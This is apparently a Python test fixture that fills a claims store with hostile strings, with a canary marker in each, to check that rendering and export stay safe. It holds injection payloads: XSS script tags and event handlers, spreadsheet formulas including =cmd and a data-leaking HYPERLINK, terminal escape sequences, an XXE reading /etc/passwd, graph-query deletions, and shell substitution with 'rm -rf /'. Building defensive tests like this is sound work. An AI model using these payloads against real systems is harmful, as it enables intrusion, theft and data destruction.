"""Texts that would act where they are shown, and a store that is full of them.

Each one tells when it has acted: an element, attribute, property or address of the name CANARY.
"""

from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path

from hedgerow.graph.intake import Item
from hedgerow.graph.records import Appearance, Claim, Document, Judgement
from hedgerow.graph.store import Store
from tests.graph.articles import claim

CANARY = "canary"
RUN = f"window.{CANARY}=1"
TEXTS: Mapping[str, str] = {
    "colours and cursor": f"\x1b[31;1m{CANARY}\x1b[2J\x1b[1;1H red",
    "hyperlink of a terminal": f"\x1b]8;;http://{CANARY}.example\x1b\\click\x1b]8;;\x1b\\ here",
    "clipboard of a terminal": "\x1b]52;c;Y2FuYXJ5\x07 copied",
    "title of a terminal": f"\x1b]0;{CANARY}\x07 titled \x1bP+q544e\x1b\\ asked",
    "unfinished escape": "ends with \x1b",
    "c1 controls": "\x9b31m red \x9d0;title\x9c \x90q\x9c \x85 next",
    "backspaces": f"sure\b\b\b\b{CANARY} \r overwritten \x07 \x7f",
    "bidi overrides": "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u200e\u061c marks",
    "zero width": "Viet\u200bnam \u200d\u200c \ufeff\u2060 joined",
    "formula": f'=cmd|" /C {CANARY}"!A0',
    "formula of a link": f'=HYPERLINK("http://{CANARY}.example/?x="&A1,"here")',
    "formula by plus": f"+{CANARY}+1",
    "formula by minus": f"-{CANARY}-1",
    "formula by at": f"@SUM(1+1)*{CANARY}",
    "formula after a tab": f"\t={CANARY}()",
    "formula after a return": f"\r\n={CANARY}()",
    "formula after blanks": f"  \u00a0={CANARY}()",
    "formula in full width": f"\uff1d{CANARY}()",
    "cells": f'a","=1+1",{CANARY};b\tc\n=1+1',
    "script": f"<script>{RUN}</script>",
    "end of a script": f"</script><script>{RUN}</script><!--<script>",
    "comment and end": f"<!-- --> <![CDATA[ ]]> ]]> <?{CANARY} ?> --!> {RUN}",
    "image": f"\"'><img src=x onerror={RUN}><{CANARY}>",
    "attribute": f"' onmouseover='{RUN}' {CANARY}='1' \" onfocus=\"{RUN}\" autofocus x=\"",
    "style": f"</style><style>*{{background:url(http://{CANARY}.example/)}}</style>",
    "svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload={RUN}><{CANARY}/></svg>",
    "meta": f"<meta http-equiv=refresh content='0;url=http://{CANARY}.example'><base href=//x>",
    "template": "{{7*7}} {% raw %} ${7*7} #{7*7} {{constructor.constructor('alert(1)')()}} %(x)s",
    "markdown link": f"[click](javascript:{RUN}) <javascript:{RUN}> [x]: http://{CANARY}.example",
    "markdown image": f"![{CANARY}](http://{CANARY}.example/x.png) \n# heading\n- list\n> quote",
    "markdown html": f"<details open ontoggle={RUN}><{CANARY}></details> `a` **b** | c |",
    "calendar": f"meet\r\nEND:VEVENT\r\nX-{CANARY.upper()}:1\r\nATTACH:http://{CANARY}.example\n",
    "calendar long": f"{'ê' * 90};,:\\n\\,{CANARY}",
    "xml": f"&{CANARY}; &#0; &#x1b; <!ENTITY {CANARY} SYSTEM 'file:///etc/passwd'> ]]>",
    "not in xml": "nul \x00 \x0b \x0c \ufffe \uffff end",
    "turtle": f'""" . <http://{CANARY}.example/s> <http://{CANARY}.example/p> "\\" . \\u0022 \\',
    "sparql": f"'; DROP ALL; SERVICE <http://{CANARY}.example> {{ }} #",
    "cypher": f"'}}) DETACH DELETE n // `{CANARY}` $x",
    "json": f'","@context":"http://{CANARY}.example","@id":"{CANARY}","__proto__":{{"x":1}}',
    "latex": f"\\input{{/etc/passwd}} \\href{{http://{CANARY}.example}}{{x}} $x^2$ %",
    "shell": f"$(touch {CANARY}) `touch {CANARY}` ; rm -rf / | cat",
    "ris": f"title\nER  - \nTY  - {CANARY}\nUR  - http://{CANARY}.example",
}
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//http://x.example",
    f"data:text/html,<script>{RUN}</script>",
    f"https://x.example/\"onmouseover='{RUN}'/<script>{RUN}</script>",
    "https://x.example/\x1b]8;;http://canary.example\x07",
    f"https://x.example/{CANARY})[x](javascript:{RUN})",
    "file:///etc/passwd",
    "vbscript:canary",
    "http://x.example/\r\nX-CANARY:1",
    "https://user:pass@x.example/a?b=c#d",
)
TOLD = (
    ("partnership_upgrade", "USA VNM", "agreed", "2023-09-10"),
    ("visit", "RUS VNM", "occurred", "2024-06-20"),
    ("arms_deal", "USA VNM", "talks", None),
    ("visit", "CHN VNM", "planned", "2031-01-05"),
    ("base_access", "CHN VNM", "denied", "2022-07"),
    ("base_access", "CHN VNM", "reported", "2022-07"),
    ("defence_agreement", "JPN VNM", "signed", "2021-03-04"),
    ("sanction", "USA CHN", "in_force", "2020-05"),
)
"""Something for each part of a page: levels, plans, dates ahead, denials."""


def items() -> Iterator[Item]:
    """For each text an article that has it wherever an article has text."""
    for place, (name, text) in enumerate(TEXTS.items()):
        url = ADDRESSES[place % len(ADDRESSES)]
        where = Appearance(
            f"{text}/{name}.txt", url, text, f"{text} {place % 3}", f"2024-0{place % 6 + 1}-15"
        )
        of = Document(f"{text} ({name})", (replace(where, external_id=text),))
        matters = (TOLD[(place + step) % len(TOLD)] for step in range(4))
        yield of, [_filled(claim(of, *each), text) for each in matters]


def _filled(told: Claim, text: str) -> Claim:
    """The claim with the text wherever it has words."""
    told = replace(told, parties=tuple(replace(p, text=text, person=text) for p in told.parties))
    if told.type == "partnership_upgrade":
        told = replace(told, level="comprehensive_strategic")
    stage = "agreed" if told.status in ("denied", "reported") else None
    return replace(told, stage=stage, item=text, place=text, attributed_to=text, rule=text)


def hostile_store(path: Path) -> Path:
    """A store of them, with judgements in such words."""
    with Store.open(path) as store:
        store.add(items())
        every = sorted(each.id for each in store.claims())
        for place, text in enumerate(TEXTS.values()):
            at = f"2024-01-01T00:00:{place:02}Z"
            store.judge(Judgement("note", (every[place],), text.strip() or "x", at, text))
        at = "2024-01-02T00:00:00Z"
        store.judge(Judgement("reject", (every[-1],), TEXTS["formula"], at, TEXTS["script"]))
    return path
